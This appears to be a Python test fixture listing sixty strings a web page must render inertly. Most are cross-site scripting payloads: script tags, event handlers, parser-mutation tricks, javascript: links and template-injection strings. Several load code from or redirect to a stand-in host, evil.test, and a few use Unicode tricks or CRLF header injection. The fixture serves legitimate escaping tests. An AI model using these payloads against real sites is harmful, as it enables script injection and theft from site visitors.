"""Sixty texts that a page must show as they are, and do nothing else with (SEC-21)."""

ELEMENTS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "<script\x0c>alert(1)</script\x0c>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(2)>",
    '<img src="http://evil.test/p.png">',
    "<img/src=x/onerror=alert(2)>",
    '<image href="x" onerror="alert(2)">',
    "<svg onload=alert(3)></svg>",
    "<svg><script>alert(3)</script></svg>",
    "<svg><animate onbegin=alert(3) attributeName=x dur=1s>",
    '<svg><use href="//evil.test/x.svg#a"></use></svg>',
    '"><iframe srcdoc="<script>alert(4)</script>"></iframe>',
    "<iframe src=javascript:alert(4)>",
    "<object data=//evil.test/x.swf></object>",
    "<embed src=//evil.test/x>",
    "<video><source onerror=alert(5)></video>",
    "<audio src=x onerror=alert(5)>",
    "<body onload=alert(6)>",
    "<details open ontoggle=alert(6)>open</details>",
    "<input autofocus onfocus=alert(7)>",
    "<form action=//evil.test><button>send</button></form>",
    "<base href=//evil.test>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>@import '//evil.test/x.css';*{display:none}</style>",
    '<meta http-equiv=refresh content="0;url=//evil.test">',
    "<template><img src=x onerror=alert(8)></template>",
    "<marquee onstart=alert(8)>m</marquee>",
]
BROKEN_OUT = [
    "</textarea></style></title><b onmouseover=alert(9)>b</b>",
    "</script><script>alert(9)</script>",
    "--><script>alert(9)</script><!--",
    "]]><script>alert(9)</script><![CDATA[",
    "'\"><b onclick=alert(9)>b",
    "` onmouseover=alert(9) x=",
    "<noscript><p title='</noscript><img src=x onerror=alert(10)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(10)>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(10)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(10)>",
]
LINKS = [
    "[click](javascript:alert(11))",
    "[click](JaVaScRiPt&#58;alert(11))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![pixel](http://evil.test/p.png)",
    "![x](x 'onerror=alert(11)')",
    "<http://evil.test/>",
    "<a href='javascript:alert(11)'>here</a>",
    "[ref]: javascript:alert(11)",
]
TEMPLATES = [
    "${alert(12)}",
    "{{constructor.constructor('alert(12)')()}}",
    "<%= alert(12) %>",
    "#{alert(12)}",
    "&lt;script&gt;alert(12)&lt;/script&gt; &#60;b&#62; &amp;amp;",
    "\\u003cscript\\u003ealert(12)\\u003c/script\\u003e",
]
LETTERS = [
    "\u202egnorw gnihtemos\u202c and on",
    "\u2066\u05e9\u05dc\u05d5\u05dd\u2069 \u0645\u0631\u062d\u0628\u0627",
    "zero\u200bwidth\u200djoin\ufeffmark",
    "Z\u0351\u036b\u0343a\u0310\u0309l\u030d\u0308go\u0335\u0321",
    "constructor toString __proto__ hasOwnProperty valueOf",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f1f3\U0001f1f4 \U0001d4d0",
    "%00%0d%0aX-Injected:%20yes",
    "w" * 3000,
]

PAYLOADS = [*ELEMENTS, *BROKEN_OUT, *LINKS, *TEMPLATES, *LETTERS]
assert len(PAYLOADS) == len(set(PAYLOADS)) == 60
